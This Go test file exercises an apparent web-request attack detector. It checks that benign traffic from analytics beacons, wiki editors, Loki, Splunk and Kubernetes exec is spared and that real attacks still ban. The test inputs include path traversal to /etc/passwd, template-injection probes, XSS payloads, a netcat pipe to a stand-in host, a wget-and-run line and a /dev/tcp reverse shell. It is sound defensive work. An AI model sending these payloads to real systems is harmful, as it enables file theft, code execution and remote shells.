package patterns

import (
	"net/url"
	"strings"
	"testing"
)

// esc encodes a value as a browser's beacon does (%20 for a space).
func esc(s string) string { return strings.ReplaceAll(url.QueryEscape(s), "+", "%20") }

// noHit fails for every hit of weight > 0 on each target.
func noHit(t *testing.T, m *Matcher, targets []string) {
	t.Helper()
	for _, tg := range targets {
		for _, h := range m.Match(req("GET", tg, "", ""), nil) {
			if h.Weight > 0 {
				t.Errorf("%s: %s (%d), want no hit", tg, h.ID, h.Weight)
			}
		}
	}
}

// TestTitleEchoNotFlagged: analytics beacons that carry a security blog's
// page title (benign2 analytics-beacon-title-echo: each reader banned at
// one request by lfi-etc-passwd, ssti-expression or xss-libinjection
// before session 14).
func TestTitleEchoNotFlagged(t *testing.T) {
	m := mustCompile(t, Options{})
	var targets []string
	for _, title := range []string{
		"Understanding /etc/shadow: password hashes explained",
		"How to edit /etc/hosts on macOS",
		"Templates: {{ 7*7 }} and other expressions",
		"XSS basics: why <script> in user input is dangerous",
		"How to prevent <script> injection in forms",
		"Why /etc/passwd is world readable",
	} {
		targets = append(targets,
			"/matomo.php?action_name="+esc(title)+"&idsite=1&rec=1&url="+esc("https://www.example.org/post/x/"),
			"/g/collect?v=2&tid=G-ABC123XYZ&dt="+esc(title)+"&dl="+esc("https://www.example.org/post/x/"))
	}
	noHit(t, m, targets)
}

// TestTitleEchoAttacksStillBan: the payloads those titles resemble, in the
// same title parameters, still ban on one request: the file at the value's
// start or after a breakout, a one-letter argument, a command after it,
// an arithmetic probe alone or before prose only, any other template
// expression wrapped in prose, a script with a body.
func TestTitleEchoAttacksStillBan(t *testing.T) {
	m := mustCompile(t, Options{})
	a := func(v string) string { return "/matomo.php?action_name=" + esc(v) + "&idsite=1&rec=1" }
	d := func(v string) string { return "/page?title=" + esc(v) }
	checkOneRequest(t, m, []oneRequest{
		{a("/etc/passwd"), "", "", "lfi-etc-passwd", true},
		{a("../../../../etc/passwd"), "", "", "lfi-etc-passwd", true},
		{d("../../etc/shadow"), "", "", "lfi-etc-passwd", true},
		{d("x /etc/passwd"), "", "", "lfi-etc-passwd", true},
		{d("Understanding /etc/shadow;id"), "", "", "lfi-etc-passwd", true},
		{d("Understanding /etc/shadow | nc evil.example 4444"), "", "", "lfi-etc-passwd", true},
		{d("Understanding '/etc/shadow' explained here"), "", "", "lfi-etc-passwd", true},
		{"/search?q=" + esc("Understanding /etc/shadow: password hashes explained"), "", "", "lfi-etc-passwd", true},
		{d("{{7*7}}"), "", "", "ssti-expression", true},
		{d("{{7*7}} and more words"), "", "", "ssti-expression", true},
		{d("Templates {{7*7}}"), "", "", "ssti-expression", true},
		{d("Templates {{config.items()}} and other expressions"), "", "", "ssti-expression", true},
		{d("Templates {{ 7*7 }} {{''.__class__.__mro__}} and more"), "", "", "ssti-expression", true},
		{d("Templates {{ 7*7 }} ${7*7} and more"), "", "", "ssti-expression", true},
		{"/search?q=" + esc("Templates: {{ 7*7 }} and other expressions"), "", "", "ssti-expression", true},
		{a("XSS basics: <script>alert(1)</script> is dangerous"), "", "", "xss-libinjection", true},
		{a("<script>alert(1)</script>"), "", "", "xss-libinjection", true},
		{a("why: <img src=x onerror=alert(1)> matters"), "", "", "xss-libinjection", true},
	})
}

// TestMediaWikiParserFunctionsNotFlagged: MediaWiki's parser functions
// ({{#if:}}, {{#switch:}}) in an editor's preview (benign2 oneshot-misc-s9:
// banned by ssti-expression's Handlebars form before session 14).
func TestMediaWikiParserFunctionsNotFlagged(t *testing.T) {
	m := mustCompile(t, Options{})
	noHit(t, m, []string{
		"/w/api.php?action=parse&format=json&formatversion=2&title=Template%3AInfobox_software&text=" +
			esc("{{#if:{{{logo|}}}|[[File:{{{logo}}}|200px]]|}}") + "&contentmodel=wikitext&prop=text&pst=1",
		"/w/index.php?title=Template:Infobox&action=submit&wpTextbox1=" + esc("{{#if:{{{name|}}}|{{{name}}}|{{PAGENAME}}}}"),
		"/w/api.php?action=parse&text=" + esc("{{#each:a|b}} {{#with:x}} {{#unless:y}}"),
	})
}

// TestHandlebarsHelpersStillBan: Handlebars' block helpers as its SSTI
// payloads spell them, each followed by what its lexer ends a name with.
func TestHandlebarsHelpersStillBan(t *testing.T) {
	m := mustCompile(t, Options{})
	q := func(v string) string { return "/render?tpl=" + esc(v) }
	checkOneRequest(t, m, []oneRequest{
		{q(`{{#with "s" as |string|}}{{#with "e"}}{{/with}}{{/with}}`), "", "", "ssti-expression", true},
		{q(`{{#with split as |conslist|}}`), "", "", "ssti-expression", true},
		{q(`{{#each conslist}}{{/each}}`), "", "", "ssti-expression", true},
		{q(`{{#if}}`), "", "", "ssti-expression", true},
		{q(`{{/if}}`), "", "", "ssti-expression", true},
		{q(`{{#lookup.x}}`), "", "", "ssti-expression", true},
		{q(`{{#with(string.sub.apply 0 codelist)}}`), "", "", "ssti-expression", true},
		{q(`{{#with`), "", "", "ssti-expression", true},
		{q(`{{#with~ x}}`), "", "", "ssti-expression", true},
	})
}

// TestLokiFilterStringsNotFlagged: Loki queries that hunt for attacks in
// the site's own logs, the markup inside a line filter's string (benign2
// oneshot-misc-s9: banned by xss-libinjection before session 14).
func TestLokiFilterStringsNotFlagged(t *testing.T) {
	m := mustCompile(t, Options{})
	noHit(t, m, []string{
		"/loki/api/v1/query_range?query=" + esc(`{job="nginx"} |~ "(?i)(union select|<script>)"`) + "&limit=1000&direction=backward",
		"/loki/api/v1/query?query=" + esc(`{job="nginx"} |= "<script>"`),
		"/api/datasources/proxy/uid/loki1/loki/api/v1/query_range?query=" + esc("{app=\"web\"} |= `<script>` != \"healthz\""),
		"/loki/api/v1/query_range?query=" + esc(`sum by (clientip) (count_over_time({job="nginx"} |~ "<svg|<img" [5m]))`),
	})
}

// TestLokiFilterStringsAttacksStillBan: markup outside the query's
// strings, a string left open, a value that is no LogQL query, another
// parameter or another path still count.
func TestLokiFilterStringsAttacksStillBan(t *testing.T) {
	m := mustCompile(t, Options{})
	checkOneRequest(t, m, []oneRequest{
		{"/loki/api/v1/query?query=" + esc(`{job="x"} |= "a" <script>alert(1)</script>`), "", "", "xss-libinjection", true},
		{"/loki/api/v1/query?query=" + esc(`{job="x"} |= "<script>alert(1)</script>`), "", "", "xss-libinjection", true},
		{"/loki/api/v1/query?query=" + esc(`"><script>alert(1)</script>`), "", "", "xss-libinjection", true},
		{"/loki/api/v1/query?direction=" + esc(`{job="x"} |= "<script>alert(1)</script>"`), "", "", "xss-libinjection", true},
		{"/search?query=" + esc(`{job="x"} |= "<script>alert(1)</script>"`), "", "", "xss-libinjection", true},
	})
}

// TestK8sExecNotFlagged: an operator's shell in a pod through the API's
// exec call, as kubectl and Rancher's shell button send it (benign2
// ops-consoles-paths: banned by cmdi-shell-path and lfi-absolute-path
// before session 14).
func TestK8sExecNotFlagged(t *testing.T) {
	m := mustCompile(t, Options{})
	for _, tg := range []string{
		"/api/v1/namespaces/prod/pods/api-7d9f8c6b5-x2x9q/exec?command=%2Fbin%2Fbash&container=api&stdin=true&stdout=true&tty=true",
		"/k8s/clusters/local/api/v1/namespaces/prod/pods/api-7d9f8c6b5-x2x9q/exec?container=api&stdout=1&stdin=1&stderr=1&tty=1&command=%2Fbin%2Fsh&command=-c&command=" +
			esc(`TERM=xterm-256color; export TERM; [ -x /bin/bash ] && ([ -x /usr/bin/script ] && /usr/bin/script -q -c "/bin/bash" /dev/null || exec /bin/bash) || exec /bin/sh`),
	} {
		// the spare holds on the API server's 101 alone (fix-sig s14): a
		// refused exec (401, 403) is a scanner's probe and counts
		hits := m.Match(req("POST", tg, "", ""), nil)
		for _, h := range KeepAnswered(hits, 101, nil) {
			// the API's paths are probes' too (probe-infra-api, 2 on a miss)
			if h.Category == CmdInjection || h.Category == Traversal {
				t.Errorf("%s: %s (%d), want no command or traversal hit", tg, h.ID, h.Weight)
			}
		}
		refused := 0
		for _, h := range KeepAnswered(m.Match(req("POST", tg, "", ""), nil), 403, nil) {
			if h.ID == "cmdi-shell-path" {
				refused++
			}
		}
		if refused != 1 {
			t.Errorf("%s answered 403: cmdi-shell-path kept %d times, want 1", tg, refused)
		}
	}
}

// TestK8sExecAttacksStillBan: what the spare needs absent: another
// parameter, another path (a kubelet's /run/ and /exec/, an app's own
// exec), and a chained or downloading shell line in command= (the other
// command-injection signatures are not spared).
func TestK8sExecAttacksStillBan(t *testing.T) {
	m := mustCompile(t, Options{})
	const pod = "/api/v1/namespaces/prod/pods/api-1/exec"
	checkOneRequest(t, m, []oneRequest{
		{pod + "?command=%2Fbin%2Fbash&container=api&cmd=x", "", "", "cmdi-shell-path", false},
		{pod + "?command=%2Fbin%2Fbash&file=%2Fetc%2Fhosts", "", "", "lfi-system-path", false},
		{pod + "?command=%2Fbin%2Fbash&file=%2Fetc%2Fhosts", "", "", "cmdi-shell-path", false},
		{pod + "?command=%2Fbin%2Fbash&path=%2Fvar%2Flib%2Fx", "", "", "lfi-absolute-path", false},
		{"/api/v1/exec?command=%2Fbin%2Fbash", "", "", "cmdi-shell-path", false},
		{"/run/default/nginx/nginx?cmd=%2Fbin%2Fsh", "", "", "cmdi-shell-path", false},
		{pod + "?command=" + esc("/bin/sh -c 'wget http://203.0.113.9/x.sh | sh'") + "&container=api", "", "", "cmdi-download-exec", true},
		{pod + "?command=" + esc("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1") + "&container=api", "", "", "cmdi-reverse-shell", true},
		{pod + "?command=" + esc("x;cat /etc/passwd"), "", "", "lfi-etc-passwd", true},
		// the spare is the query's: a shell in the path still counts
		{"/bin/sh/api/v1/namespaces/prod/pods/api-1/exec?command=%2Fbin%2Fbash", "", "", "cmdi-shell-path", false},
	})
}

// TestSplunkQuotedPathNotFlagged: an analyst's Splunk search for the
// requests that named a system file (benign2 oneshot-misc-s9: banned by
// lfi-etc-passwd before session 14).
func TestSplunkQuotedPathNotFlagged(t *testing.T) {
	m := mustCompile(t, Options{})
	noHit(t, m, []string{
		"/en-US/app/search/search?q=" + esc(`search index=nginx "/etc/passwd" | stats count by clientip`) + "&earliest=-7d",
		"/fr-FR/app/search/search?q=" + esc(`search index=web ("/etc/shadow" OR "/proc/self/environ") | table _time clientip uri`),
		"/de-DE/app/soc/search?q=" + esc(`| tstats count where index=nginx uri="*/etc/passwd*" by src`) + "&display.page.search.mode=smart",
	})
}

// TestSplunkQuotedPathAttacksStillBan: a path outside the quotes, a
// traversal, a path in another parameter, another page still count.
func TestSplunkQuotedPathAttacksStillBan(t *testing.T) {
	m := mustCompile(t, Options{})
	s := "/en-US/app/search/search?q="
	checkOneRequest(t, m, []oneRequest{
		{s + esc("/etc/passwd"), "", "", "lfi-etc-passwd", true},
		{s + esc(`search "x" /etc/passwd`), "", "", "lfi-etc-passwd", true},
		{s + esc(`search "../../../../etc/passwd"`), "", "", "lfi-etc-passwd", true},
		{s + esc(`search "x"`) + "&file=" + esc("/etc/passwd"), "", "", "lfi-etc-passwd", true},
		{"/en-US/app/search/report?q=" + esc(`search "/etc/passwd"`), "", "", "lfi-etc-passwd", true},
		{"/search?q=" + esc(`search index=nginx "/etc/passwd" | stats count`), "", "", "lfi-etc-passwd", true},
	})
}

// TestSplunkSpareNeedsTheSearchPath: a system path in the request's path
// is never spared by the q= grammar.
func TestSplunkSpareNeedsTheSearchPath(t *testing.T) {
	m := mustCompile(t, Options{})
	q := "?q=" + esc(`search "x"`)
	checkOneRequest(t, m, []oneRequest{
		{"/etc/passwd/app/search/search" + q, "", "", "lfi-etc-passwd", true},
		{"/..%2f..%2fetc/passwd/app/search/search" + q, "", "", "lfi-etc-passwd", true},
		{"/en/app/..%2f..%2fetc%2fpasswd/search" + q, "", "", "lfi-etc-passwd", true},
	})
}
